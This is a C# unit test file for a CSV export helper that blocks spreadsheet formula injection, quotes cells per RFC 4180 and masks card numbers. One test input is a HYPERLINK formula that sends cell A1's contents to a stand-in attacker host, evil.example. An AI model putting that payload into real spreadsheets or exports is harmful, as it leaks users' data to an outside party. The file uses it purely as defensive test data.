using System.Text;
using Reimburse.Payouts;

namespace Reimburse.Core.Tests.Payouts;

public sealed class CsvCellsTests
{
    private static string Cell(string? value)
    {
        var sb = new StringBuilder();
        CsvCells.AppendCell(sb, value);
        return sb.ToString();
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1+1", "'-1+1")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("＝1+1", "'＝1+1")]
    [InlineData("＋1", "'＋1")]
    [InlineData("－1", "'－1")]
    [InlineData("＠SUM(A1)", "'＠SUM(A1)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("  =1+1", "'  =1+1")]
    [InlineData("\u3000=1+1", "'\u3000=1+1")]
    public void A_cell_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(string value, string expected)
    {
        Assert.Equal(expected, Cell(value));
    }

    [Theory]
    [InlineData("ﾔﾏﾀﾞ ﾀﾛｳ", "ﾔﾏﾀﾞ ﾀﾛｳ")]
    [InlineData("1100", "1100")]
    [InlineData("0001", "0001")]
    [InlineData("A-1", "A-1")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void Ordinary_values_are_written_unchanged(string? value, string expected)
    {
        Assert.Equal(expected, Cell(value));
    }

    [Theory]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("line\nfeed", "\"line\nfeed\"")]
    public void Commas_quotes_and_line_breaks_are_quoted_as_RFC_4180_says(string value, string expected)
    {
        Assert.Equal(expected, Cell(value));
    }

    [Fact]
    public void A_card_number_in_a_cell_is_masked_to_its_last_four_digits()
    {
        Assert.Equal("****-****-****-1111", Cell("4111 1111 1111 1111"));
    }

    [Fact]
    public void A_row_ends_with_CR_LF_and_separates_cells_with_commas()
    {
        var sb = new StringBuilder();
        CsvCells.AppendRow(sb, ["a", "=b", "c,d"]);

        Assert.Equal("a,'=b,\"c,d\"\r\n", sb.ToString());
    }

    [Theory]
    [InlineData("-", true)]
    [InlineData("", false)]
    [InlineData("   ", false)]
    [InlineData("1-1", false)]
    public void IsFormulaLike_looks_at_the_first_non_blank_character(string value, bool expected)
    {
        Assert.Equal(expected, CsvCells.IsFormulaLike(value));
    }
}
